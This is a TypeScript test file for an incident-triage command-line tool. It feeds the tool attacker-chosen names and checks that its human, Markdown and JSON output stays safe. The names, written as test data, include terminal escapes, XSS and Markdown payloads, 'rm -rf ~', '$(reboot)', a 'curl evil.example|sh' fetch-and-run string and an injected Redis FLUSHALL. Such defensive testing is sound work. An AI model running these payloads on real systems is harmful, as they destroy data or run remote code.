import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type Incident, merge, singleIp } from '../support/incidents.ts';
import { counter, series } from '../support/openmetrics.ts';
import { stopEverything } from '../support/processes.ts';
import { runInTerminal, runProgram } from '../support/program.ts';
import { startRedis } from '../support/redis.ts';
import type { Command } from '../support/resp.ts';
import { incidentAt, nowSeconds, prometheusWith, type Triage, triage } from './systems.ts';

/** Names as an attacker would choose them (fewer than the 20 that are listed): the sender chooses a counter's key. */
const NAMES: Record<string, string> = {
  'terminal sequence': '\u001b[2J\u001b]0;owned\u0007\u001b[31m',
  'eight-bit sequence': '\u009b31m\u009d',
  'carriage return': '203.0.113.9\rP2 quiet',
  'line break': '203.0.113.9\nquiet (confidence high): nothing abnormal',
  'right to left': '203.0.113.\u202e9\u2066',
  'zero width': '203.0.113.\u200b42\ufeff',
  HTML: '<script>alert(1)</script><img src=x onerror=alert(1)>&amp;',
  Markdown: '[click](http://evil.example) | ![x](//evil.example/x.png) ``` **b** @everyone',
  shell: '$(reboot);`id`&&x>y|z \'q\' "r" \\',
  'other command': '203.0.113.9 EX 1; FLUSHALL',
  prototype: '__proto__',
  constructor: 'constructor',
  'a flag': '--help',
  'not an address': '203.0.113.042',
  'a network': '0.0.0.0/0',
  separators: 'a:b:{c}\u2028d\u2029',
  braces: '{subject}{redis}{yyyymmdd}{total}',
  blank: ' ',
};
const HUGE = 'x'.repeat(7_000);
const NOT_UTF8 = Buffer.from([0xff, 0xfe, 0x41, 0x1b]);
const ATTACKER = '203.0.113.42';
/** A tenant and an agent that really are over their limits, with names that must not get anywhere. */
const TENANT = 'acme"; rm -rf ~ #\u001b[2J<b>\u202e';
const AGENT = '$(curl evil.example|sh)\u001b[2J';

function hostileIncident(now: number, date: string): Incident {
  const names = Object.values(NAMES);
  const target = { job: 'gateway', instance: 'gw-1:8000' };
  const rejects = (tenant: string, path: string, perSecond: number) =>
    series(
      'acp_gateway_request_total',
      { ...target, tenant_id: tenant, method: 'POST', path, status: '429' },
      counter(now, { to: 600, perSecond }),
    );
  return {
    redis: [
      ...[...names, HUGE].map((name) => ['SET', `acp:auth_fail:${name}`, '2', 'EX', '290']),
      ...names.map((name) => ['SET', `acp:ip_block:${name}`, name, 'EX', '600']),
      ...names.flatMap((name) => [
        ['SET', `acp:agent_cost_cap:${name}`, '100.00'],
        ['SET', `acp:agent_cost_today:${name}:${date}`, '1.00'],
      ]),
      ['SET', `acp:agent_cost_cap:${AGENT}`, '100.00'],
      ['SET', `acp:agent_cost_today:${AGENT}:${date}`, '250.00'],
      ['SET', 'acp:agent_cost_cap:agent-7', '100.00'],
      ['SET', `acp:agent_cost_today:agent-7:${date}`, '150.00'],
      ['SET', 'acp:agent_cost_cap:cap-text', '\u001b[2J100 USD\u202e'],
    ],
    series: [
      ...names.map((name) => rejects(name, name, 0.01)),
      ...names.map((name) => rejects(TENANT, name, 0.5)),
    ],
  };
}

let systems: string[] = [];
let document: Triage;
const texts: Record<string, string> = {};
beforeAll(async () => {
  const now = nowSeconds();
  const date = new Date(now * 1000).toISOString().slice(0, 10).replaceAll('-', '');
  const incident = merge(incidentAt(now, singleIp()), hostileIncident(now, date));
  const [redis, prometheus] = await Promise.all([startRedis(), prometheusWith(incident)]);
  const bytes: Command[] = ['acp:auth_fail:', 'acp:ip_block:', 'acp:agent_cost_cap:'].map((prefix) => [
    ...['SET', Buffer.concat([Buffer.from(prefix), NOT_UTF8]), '3'],
  ]);
  await redis.load([...incident.redis, ...bytes]);
  systems = ['--redis-url', redis.url, '--prometheus-url', prometheus.url, '--top', '999'];
  for (const format of ['human', 'markdown']) {
    const { stdout, stderr, code } = await runProgram(['triage', '-o', format, ...systems]);
    expect({ stderr, code }).toEqual({ stderr: '', code: 0 });
    texts[format] = stdout;
  }
  const json = await triage(systems);
  expect(json.code).toBe(0);
  document = json.document;
  texts.json = json.stdout;
});
afterAll(stopEverything);

test('the verdict is still right', () => {
  expect(document.findings.map(({ category, subjects }) => [category, subjects.map(({ id }) => id)])).toEqual(
    [
      ['single-ip-credential-stuffing', [ATTACKER]],
      ['tenant-over-rps-cap', [TENANT]],
      // Of low confidence: no tenant is rejected on /execute alone.
      ['agent-over-cost-cap', [AGENT, 'agent-7']],
    ],
  );
  expect(document.signals['auth-failures-by-ip']?.total).toBe(4812 + 2 * Object.keys(NAMES).length + 3);
});

describe.each(['human', 'json', 'markdown'])('as %s', (format) => {
  test('nothing in it is obeyed by a terminal, hidden or reordered', () => {
    const text = texts[format] ?? '';
    expect(text).toContain(ATTACKER);
    // Everything that Unicode calls control, format, line or paragraph separator, but for our own line breaks.
    expect(text.match(/(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u)?.[0]).toBeUndefined();
  });

  test('no line is made by a name', () => {
    expect(texts[format]).not.toMatch(/^(quiet|P2 quiet)/m);
    expect(texts[format]).not.toMatch(/^\s*FLUSHALL/m);
  });
});

test('a terminal gets its own colours and nothing else', async () => {
  const { output } = await runInTerminal(['triage', ...systems]);
  const [start = '', ...coloured] = output.replaceAll('\r\n', '\n').split('\u001b[');
  expect(coloured.length).toBeGreaterThan(10);
  expect(coloured.filter((part) => !/^\d+(;\d+)*m/.test(part))).toEqual([]);
  const rest = [start, ...coloured].join('');
  expect(rest).toContain(ATTACKER);
  expect(rest.match(/(?!\n)[\p{Cc}\p{Cf}]/u)?.[0]).toBeUndefined();
});

test('Markdown renders names as text', () => {
  const text = texts.markdown ?? '';
  expect(text).not.toMatch(/<[a-z!/]/i);
  const outsideOfCode = text.replaceAll(/`[^`\n]*`/g, '');
  expect(outsideOfCode).not.toMatch(/(?<!\\)\]\(/);
  expect(outsideOfCode).not.toMatch(/https?:\/\/evil/);
  expect(outsideOfCode).not.toMatch(/@everyone/);
  expect(text.match(/^```/gm)?.length).toBe(2 * document.findings.filter(hasCommand).length);
  const tables = text.split('\n\n').filter((block) => block.startsWith('|'));
  expect(tables.length).toBeGreaterThan(3);
  for (const table of tables) {
    const columns = table.split('\n').map((row) => row.match(/(?<!\\)\|/g)?.length);
    expect(new Set(columns).size).toBe(1);
  }
});

const hasCommand = (finding: Triage['findings'][number]) =>
  finding.remedies.some(({ command }) => command !== null);

describe('in JSON every id is exact', () => {
  const idsOf = (signal: string) => document.signals[signal]?.rows.map(({ id }) => id) ?? [];
  const hex = { hex: NOT_UTF8.toString('hex') };

  test.each([
    ['auth-failures-by-ip', [ATTACKER, hex]],
    ['blocks', [hex]],
    ['agent-spend', ['agent-7', AGENT, 'agent-idle', 'cap-text', hex]],
    ['rejects-by-tenant', [TENANT]],
  ])('%s', (signal, others) => {
    const sorted = (ids: unknown[]) => ids.map((id) => JSON.stringify(id)).sort();
    expect(sorted(idsOf(signal))).toEqual(sorted([...Object.values(NAMES), ...others]));
  });

  test('and so are the paths of a mix, whatever objects make of such keys', () => {
    const row = document.signals['rejects-by-tenant']?.rows.find(({ id }) => id === TENANT);
    const paths = Object.entries(row?.labels.path ?? {});
    expect(paths.map(([path]) => path).sort()).toEqual(Object.values(NAMES).sort());
    for (const [, value] of paths) expect(value).toBeCloseTo(0.5, 1);
  });

  test('what is no id is counted and said', () => {
    const [family] = document.warnings.filter((warning) => warning.includes('acp:auth_fail'));
    expect(family).toMatch(
      /^auth-failures-by-ip: 1 key of acp:auth_fail:\* skipped: 1 with a name over 512 bytes/,
    );
    expect(document.warnings.join('\n')).toMatch(/acp:auth_fail:\* are not IP addresses, some not UTF-8/);
    expect(document.warnings.join('\n')).toMatch(/acp:agent_cost_cap:\*? ?.*cannot be used/);
    expect(texts.json).not.toContain('xxxxxxxx');
  });
});

test('only checked identifiers are ever in a command', () => {
  const commands = document.findings.flatMap(({ remedies }) => remedies.flatMap((r) => r.command ?? []));
  const port = /\d+$/.exec(systems[1] ?? '')?.[0];
  const redisCli = `redis-cli -h 127.0.0.1 -p ${port}`;
  expect(commands.map((command) => command.replaceAll(/:\d{8}\b/g, ':DATE'))).toEqual([
    `${redisCli} SET acp:ip_block:${ATTACKER} credential_stuffing EX 86400`,
    `${redisCli} MGET acp:agent_cost_today:agent-7:DATE acp:agent_cost_cap:agent-7`,
  ]);
  for (const format of ['human', 'markdown']) {
    const shown = (texts[format] ?? '').split('\n').filter((line) => /^\s*redis-cli/.test(line));
    expect(shown.map((line) => line.trim())).toEqual(commands);
  }
});

test('a loud name that is no address is never a subject, and never quiet either', async () => {
  const redis = await startRedis();
  const now = nowSeconds();
  await redis.load([['SET', 'acp:auth_fail:203.0.113.9;reboot\u001b[2J', '900', 'EX', '290']]);
  const prometheus = await prometheusWith(incidentAt(now));
  const result = await triage(['--redis-url', redis.url, '--prometheus-url', prometheus.url]);
  expect(result.document.verdict.category).toBe('inconclusive');
  expect(result.document.findings).toEqual([]);
  expect(result.stdout).not.toContain('redis-cli');
});
